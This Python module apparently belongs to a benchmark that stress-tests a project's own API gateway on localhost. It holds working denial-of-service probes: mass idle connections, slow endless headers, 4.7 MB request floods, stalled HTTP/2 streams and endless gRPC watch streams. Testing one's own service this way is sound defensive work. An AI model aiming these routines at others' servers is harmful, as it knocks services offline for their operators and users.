"""The attacks: each does one thing without measure until it is told to stop, and counts."""

import asyncio
import contextlib
from collections import Counter
from collections.abc import AsyncIterator, Awaitable, Callable
from dataclasses import dataclass
from typing import Any, Final

import grpc
import h2.config
import h2.connection
import h2.events
import h2.settings
from arcadia.catalog.v1 import quote_service_pb2

from bench.attack.target import Target

__all__ = ["PROBES", "Probe"]

Outcomes = Counter[str]
"""How many ended in which way."""

HOST: Final = "127.0.0.1"
BODY: Final = b'{"plan_code": "' + b"x" * 4_700_000 + b'"}'


@dataclass(frozen=True, slots=True)
class Probe:
    """One kind of attack."""

    name: str
    tried: str
    run: Callable[[Target, Outcomes], Awaitable[None]]
    """Runs until it is cancelled, and counts what became of its tries."""


async def _silent(target: Target, outcomes: Outcomes) -> None:
    """Connections that say nothing; each that is closed is opened again."""

    async def one() -> None:
        while True:
            async with _connected(target, outcomes) as (reader, _):
                await reader.read()
                outcomes["closed"] += 1

    await _all(one() for _ in range(10_000))


async def _slow_headers(target: Target, outcomes: Outcomes) -> None:
    """Requests whose headers never end."""

    async def one() -> None:
        while True:
            async with _connected(target, outcomes) as (reader, writer):
                writer.write(b"GET /api/v1/inventory HTTP/1.1\r\nhost: gateway\r\n")
                reading = asyncio.create_task(reader.read())
                with contextlib.suppress(ConnectionError):
                    while not reading.done():
                        writer.write(b"x-slow: 1\r\n")
                        await writer.drain()
                        await asyncio.wait({reading}, timeout=1)
                outcomes["refused" if await reading else "closed"] += 1

    await _all(one() for _ in range(500))


async def _large_bodies(target: Target, outcomes: Outcomes) -> None:
    """Quotes of 4.7 MB, one after the other on each connection."""
    head = (
        f"POST /api/v1/quote HTTP/1.1\r\nhost: gateway\r\n"
        f"authorization: Bearer {target.tenant_token}\r\n"
        f"content-type: application/json\r\ncontent-length: {len(BODY)}\r\n\r\n"
    ).encode()

    async def one() -> None:
        while True:
            async with _connected(target, outcomes) as (reader, writer):
                writer.write(head)
                reading = asyncio.create_task(reader.readline())
                with contextlib.suppress(ConnectionError):
                    writer.write(BODY)
                    await writer.drain()
                status = (await reading).split(b" ")[1:2]
                outcomes["refused" if status != [b"200"] else "answered"] += 1

    await _all(one() for _ in range(12))


async def _unread(target: Target, outcomes: Outcomes) -> None:
    """Large pages on streams whose window stays shut: 100 on each of 26 connections."""

    async def one() -> None:
        while True:
            async with _connected(target, outcomes) as (reader, writer):
                connection = h2.connection.H2Connection(h2.config.H2Configuration())
                connection.local_settings = h2.settings.Settings(
                    client=True, initial_values={h2.settings.SettingCodes.INITIAL_WINDOW_SIZE: 0}
                )
                connection.initiate_connection()
                for _ in range(100):
                    connection.send_headers(
                        connection.get_next_available_stream_id(),
                        [
                            (":method", "GET"),
                            (":path", "/api/v1/inventory?page_size=500"),
                            (":scheme", "http"),
                            (":authority", "gateway"),
                            ("authorization", f"Bearer {target.operator_token}"),
                        ],
                        end_stream=True,
                    )
                while True:
                    writer.write(connection.data_to_send())
                    received = await reader.read(65_536)
                    if not received:
                        outcomes["closed"] += 1
                        break
                    for event in connection.receive_data(received):
                        if isinstance(event, h2.events.StreamReset):
                            outcomes["reset"] += 1
                        elif isinstance(event, h2.events.ResponseReceived):
                            status = dict(event.headers or ()).get(b":status")
                            outcomes["answered" if status == b"200" else "refused"] += 1

    await _all(one() for _ in range(26))


async def _watches(target: Target, outcomes: Outcomes) -> None:
    """Watch streams of one tenant, which never end."""
    metadata = (("authorization", f"Bearer {target.tenant_token}"),)

    async def one(channel: grpc.aio.Channel) -> None:
        watch: Any = channel.unary_stream(
            "/arcadia.inventory.v1.InventoryService/WatchResourceEvents"
        )
        while True:
            call = watch(b"", metadata=metadata)
            outcomes["open"] += 1
            try:
                await call.initial_metadata()
                async for _ in call:
                    pass
            except grpc.aio.AioRpcError as error:
                outcomes["open"] -= 1
                outcomes[error.code().name.lower()] += 1
            await asyncio.sleep(1)

    async with contextlib.AsyncExitStack() as stack:
        channels = [
            await stack.enter_async_context(
                grpc.aio.insecure_channel(
                    f"{HOST}:{target.port}", options=[("grpc.use_local_subchannel_pool", 1)]
                )
            )
            for _ in range(10)
        ]
        await _all(one(channels[number % 10]) for number in range(1_000))


async def _health(target: Target, outcomes: Outcomes) -> None:
    """Anonymous callers who ask for the health, again and again."""
    request = b"GET /api/health HTTP/1.1\r\nhost: gateway\r\n\r\n"

    async def one() -> None:
        while True:
            async with _connected(target, outcomes) as (reader, writer):
                while True:
                    writer.write(request)
                    head = await reader.readuntil(b"\r\n\r\n")
                    length = int(head.lower().partition(b"content-length: ")[2].split(b"\r")[0])
                    await reader.readexactly(length)
                    outcomes["answered" if head.startswith(b"HTTP/1.1 200") else "refused"] += 1
                    await asyncio.sleep(0.1)

    await _all(one() for _ in range(400))


async def _refused_quotes(target: Target, outcomes: Outcomes) -> None:
    """Quotes of 4.7 MB straight to the service, 1,000 in all."""
    request = quote_service_pb2.CreateQuoteRequest(plan_code="x" * 4_700_000).SerializeToString()
    metadata = (("authorization", f"Bearer {target.tenant_token}"),)
    async with grpc.aio.insecure_channel(target.catalog) as channel:
        create: Any = channel.unary_unary("/arcadia.catalog.v1.QuoteService/CreateQuote")

        async def one() -> None:
            for _ in range(250):
                try:
                    await create(request, metadata=metadata)
                    outcomes["answered"] += 1
                except grpc.aio.AioRpcError as error:
                    outcomes[error.code().name.lower()] += 1

        await _all(one() for _ in range(4))


@contextlib.asynccontextmanager
async def _connected(
    target: Target, outcomes: Outcomes
) -> AsyncIterator[tuple[asyncio.StreamReader, asyncio.StreamWriter]]:
    """A connection; one that is cut is counted, and that is all."""
    while True:
        try:
            reader, writer = await asyncio.open_connection(HOST, target.port)
            break
        except OSError:
            outcomes["not connected"] += 1
            await asyncio.sleep(1)
    try:
        yield reader, writer
    except (OSError, asyncio.IncompleteReadError):
        outcomes["cut"] += 1
        await asyncio.sleep(0.1)
    finally:
        writer.close()


async def _all(attackers: Any) -> None:
    async with asyncio.TaskGroup() as group:
        for attacker in attackers:
            group.create_task(attacker)


PROBES: Final = (
    Probe("silent connections", "10,000 at a time", _silent),
    Probe("unread streams", "2,600 at a time", _unread),
    Probe("slow headers", "500 at a time", _slow_headers),
    Probe("large bodies", "12 connections, 4.7 MB each", _large_bodies),
    Probe("watch streams", "1,000 of one tenant", _watches),
    Probe("anonymous health", "400 callers", _health),
    Probe("refused quotes", "1,000 of 4.7 MB, direct gRPC", _refused_quotes),
)
